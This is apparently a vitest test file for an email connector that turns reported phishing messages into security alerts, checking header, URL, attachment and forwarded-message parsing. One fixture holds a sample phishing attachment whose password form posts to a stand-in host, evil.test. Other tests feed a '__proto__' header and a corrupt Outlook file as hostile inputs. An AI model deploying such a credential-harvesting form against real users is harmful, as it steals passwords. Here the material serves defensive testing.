// Each fixture under test/fixtures/mail is one edge case; the .expected.json beside it is what the
// email connector must read from it.
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { readMessage } from "../../integrations/email/lib/read-message.js";
import { buildAlert } from "../../integrations/email/lib/build-alert.js";

const DIR = path.join(import.meta.dirname, "..", "fixtures", "mail");
const fixtures = fs
  .readdirSync(DIR)
  .filter((f) => f.endsWith(".eml"))
  .sort();

interface Expected {
  messageId: string | null;
  subject?: string;
  from: string;
  to: string;
  date: string | null;
  urls: string[];
  /** Event fields that must be there with these values. */
  event?: Record<string, unknown>;
  /** Entities that must be on the alert (each matched by the attributes given). */
  entities?: Record<string, unknown>[];
  /** Entities that must not be (no entity has all these attributes). */
  absentEntities?: Record<string, unknown>[];
  /** Texts that must appear in the alert's notes. */
  notes?: string[];
}

function matches(entity: Record<string, unknown>, wanted: Record<string, unknown>): boolean {
  return Object.entries(wanted).every(([key, value]) => JSON.stringify(entity[key]) === JSON.stringify(value));
}

describe("reading real .eml fixtures", () => {
  it("has fixtures to read", () => {
    expect(fixtures.length).toBeGreaterThanOrEqual(30);
  });

  for (const file of fixtures) {
    const expected = JSON.parse(fs.readFileSync(path.join(DIR, file.replace(/\.eml$/, ".expected.json")), "utf8")) as Expected;
    it(`reads ${file} as expected`, async () => {
      const raw = fs.readFileSync(path.join(DIR, file));
      const report = await readMessage(raw);
      expect(report.messageId ?? null).toBe(expected.messageId);
      if (expected.subject !== undefined) expect(report.subject).toBe(expected.subject);
      expect(report.from).toBe(expected.from);
      expect(report.to).toBe(expected.to);
      expect(report.date?.toISOString() ?? null).toBe(expected.date);
      expect(report.urls).toEqual(expected.urls);

      const internalDate = new Date("2026-11-20T00:00:00Z");
      const alert = buildAlert(report, { uid: 7, folder: "INBOX", internalDate });
      const event = alert.events[0]!;
      expect(alert.display_id).toBe(expected.messageId ?? `sha256:${report.contentHash}`);
      expect(alert.priority).toBe(60);
      expect(event.event_name).toBe("Suspicious email");
      expect(event.device_product).toBe("Mail");
      // A forwarded report: the event carries the URLs of the message forwarded, the report its own.
      const eventUrls = (expected.event?.found_urls as string[] | undefined) ?? expected.urls;
      expect(event.found_url).toBe(eventUrls.join(","));
      if (expected.event?.StartTime === undefined)
        expect(event.StartTime).toBe(expected.date ? Date.parse(expected.date) : internalDate.getTime());
      if (!expected.date) expect(alert.notes.join(" ")).toMatch(/Date header/);
      if (expected.event) expect(event).toMatchObject(expected.event);
      const entities = alert.entities as Record<string, unknown>[];
      for (const wanted of expected.entities ?? []) {
        expect(
          entities.some((entity) => matches(entity, wanted)),
          `entity ${JSON.stringify(wanted)} in ${JSON.stringify(entities)}`,
        ).toBe(true);
      }
      for (const unwanted of expected.absentEntities ?? []) {
        expect(
          entities.some((entity) => matches(entity, unwanted)),
          `no entity ${JSON.stringify(unwanted)}`,
        ).toBe(false);
      }
      for (const note of expected.notes ?? []) expect(alert.notes.join("\n")).toContain(note);
      // Every URL of the event is an entity, and every entity says where it was found.
      for (const url of event.found_urls as string[]) expect(entities.some((e) => e.type === "URL" && e.value === url)).toBe(true);
      for (const entity of entities) expect(typeof entity.source === "string" && entity.source.length > 0).toBe(true);
      // The message itself is kept with the case, byte for byte.
      expect(alert.attachments).toHaveLength(1);
      expect(alert.attachments[0]).toMatchObject({ fileName: "original.eml", contentType: "message/rfc822" });
      expect(Buffer.from(alert.attachments[0]!.data).equals(raw)).toBe(true);
    });
  }

  it("gives a message without Message-ID the same content-hash id every time", async () => {
    const raw = fs.readFileSync(path.join(DIR, "missing-message-id-and-date.eml"));
    const [a, b] = [await readMessage(raw), await readMessage(Buffer.from(raw))];
    expect(a.contentHash).toMatch(/^[0-9a-f]{64}$/);
    expect(a.contentHash).toBe(b.contentHash);
    const changed = await readMessage(Buffer.concat([raw, Buffer.from("x")]));
    expect(changed.contentHash).not.toBe(a.contentHash);
  });

  it("keeps each message's own URLs (never those of another message)", async () => {
    const one = await readMessage(fs.readFileSync(path.join(DIR, "base64-text-body.eml")));
    const two = await readMessage(fs.readFileSync(path.join(DIR, "quoted-printable-soft-line-breaks.eml")));
    expect(one.urls.some((u) => two.urls.includes(u))).toBe(false);
  });
});

describe("forwarded Outlook messages that are not what they say", () => {
  const wrap = (name: string, data: Buffer) =>
    Buffer.from(
      [
        "From: a@example.test",
        "To: b@example.test",
        "Subject: FW",
        "Date: Mon, 02 Nov 2026 10:00:00 +0000",
        "Message-ID: <bad-msg@example.test>",
        'Content-Type: multipart/mixed; boundary="Z"',
        "",
        "--Z",
        "Content-Type: text/plain",
        "",
        "see attached",
        "--Z",
        `Content-Type: application/vnd.ms-outlook; name="${name}"`,
        "Content-Transfer-Encoding: base64",
        "",
        data.toString("base64"),
        "--Z--",
        "",
      ].join("\r\n"),
    );

  it("notes a .msg that is no compound file and keeps the report itself", async () => {
    const alert = buildAlert(await readMessage(wrap("x.msg", Buffer.from("just text, not OLE"))), { uid: 1, folder: "INBOX" });
    expect(alert.notes.join("\n")).toContain("x.msg is named as an Outlook message but is not one");
    expect(alert.events[0]!.Subject).toBe("FW");
  });

  it("notes a corrupt compound file instead of crashing (read in a capped child process)", async () => {
    const junk = Buffer.alloc(4096, 0xff);
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(junk);
    const alert = buildAlert(await readMessage(wrap("y.msg", junk)), { uid: 1, folder: "INBOX" });
    const unreadable = /the Outlook message y\.msg could not be read \(/.source;
    const why = /(the file is not a readable Outlook message|reading needed more than \d+ MB|reading took longer)/.source;
    expect(alert.notes.join("\n")).toMatch(new RegExp(unreadable + why));
    expect(alert.entities.some((e) => e.type === "FILE" && e.value === "y.msg" && e.sniffed_type === "application/x-ole-storage")).toBe(
      true,
    );
  });
});

describe("the event's Headers map, read by rules on the report (simulation headers)", () => {
  const message = (extra: string[]) =>
    Buffer.from(
      [
        "From: Trainer <t@sim-vendor.test>",
        "To: b@example.test",
        "Subject: Quarterly bonus",
        "Date: Mon, 02 Nov 2026 10:00:00 +0000",
        "Message-ID: <h1@example.test>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "Received: from x by y",
        ...extra,
        "",
        "hello",
        "",
      ].join("\r\n"),
    );

  it("holds the other headers by lower-case name, the first of each, and not those with fields of their own", async () => {
    const alert = buildAlert(await readMessage(message(["X-PhishTest: yes", "X-Campaign-Vendor: trainer", "X-PhishTest: second"])), {
      uid: 1,
      folder: "INBOX",
    });
    const headers = alert.events[0]!.Headers as Record<string, string>;
    expect(headers).toEqual({ "x-phishtest": "yes", "x-campaign-vendor": "trainer" });
    expect(alert.events[0]!.Subject).toBe("Quarterly bonus");
  });

  it("is bounded: at most 100 names, 500 characters each, and a header named __proto__ is a key like another", async () => {
    const many = Array.from({ length: 150 }, (_, index) => `X-Filler-${index}: ${"v".repeat(index === 0 ? 900 : 3)}`);
    const alert = buildAlert(await readMessage(message(["__proto__: polluted", ...many])), { uid: 1, folder: "INBOX" });
    const headers = alert.events[0]!.Headers as Record<string, string>;
    expect(Object.keys(headers)).toHaveLength(100);
    // biome-ignore lint/suspicious/noProto: the header named __proto__ is an own property, not the prototype
    // biome-ignore lint/complexity/useLiteralKeys: written as a string, it is the own property and not the accessor
    expect(headers["__proto__"]).toBe("polluted");
    expect(headers["x-filler-0"]).toHaveLength(500);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe("an inline forward's attachments", () => {
  it("are the forwarded message's (depth 1) when the reporter's own part does not show them", async () => {
    const raw = [
      "From: Bob <bob@example.test>",
      "To: phish-reports@example.test",
      "Subject: Fwd: Invoice",
      "Message-ID: <inline-attach@example.test>",
      "Date: Mon, 07 Dec 2026 09:31:00 +0000",
      "MIME-Version: 1.0",
      'Content-Type: multipart/mixed; boundary="m"',
      "",
      "--m",
      "Content-Type: text/plain; charset=utf-8",
      "",
      "Is this real?",
      "",
      "---------- Forwarded message ---------",
      "From: Accounts <ap@payables.test>",
      "Date: Mon, 7 Dec 2026 at 08:12",
      "Subject: Invoice",
      "To: <bob@example.test>",
      "",
      "Your invoice is attached.",
      "",
      "--m",
      'Content-Type: text/html; name="INV-7.htm"',
      'Content-Disposition: attachment; filename="INV-7.htm"',
      "",
      "<html><form action='https://evil.test/p'><input type='password'></form></html>",
      "",
      "--m",
      'Content-Type: image/png; name="logo.png"',
      'Content-Disposition: inline; filename="logo.png"',
      "Content-ID: <logo>",
      "Content-Transfer-Encoding: base64",
      "",
      "iVBORw0KGgo=",
      "--m--",
      "",
    ].join("\r\n");
    const report = await readMessage(Buffer.from(raw));
    expect(report.forwarded[0]?.forwardedInline).toBe(true);
    expect(report.forwarded[0]!.attachments.map((file) => file.fileName)).toEqual(["INV-7.htm", "logo.png"]);
    expect(report.attachments).toEqual([]);
    const files = buildAlert(report, { uid: 1, folder: "INBOX" }).entities.filter((entity) => entity.type === "FILE");
    expect(files.map((file) => [file.value, file.depth])).toEqual([
      ["INV-7.htm", 1],
      ["logo.png", 1],
    ]);
  });
});
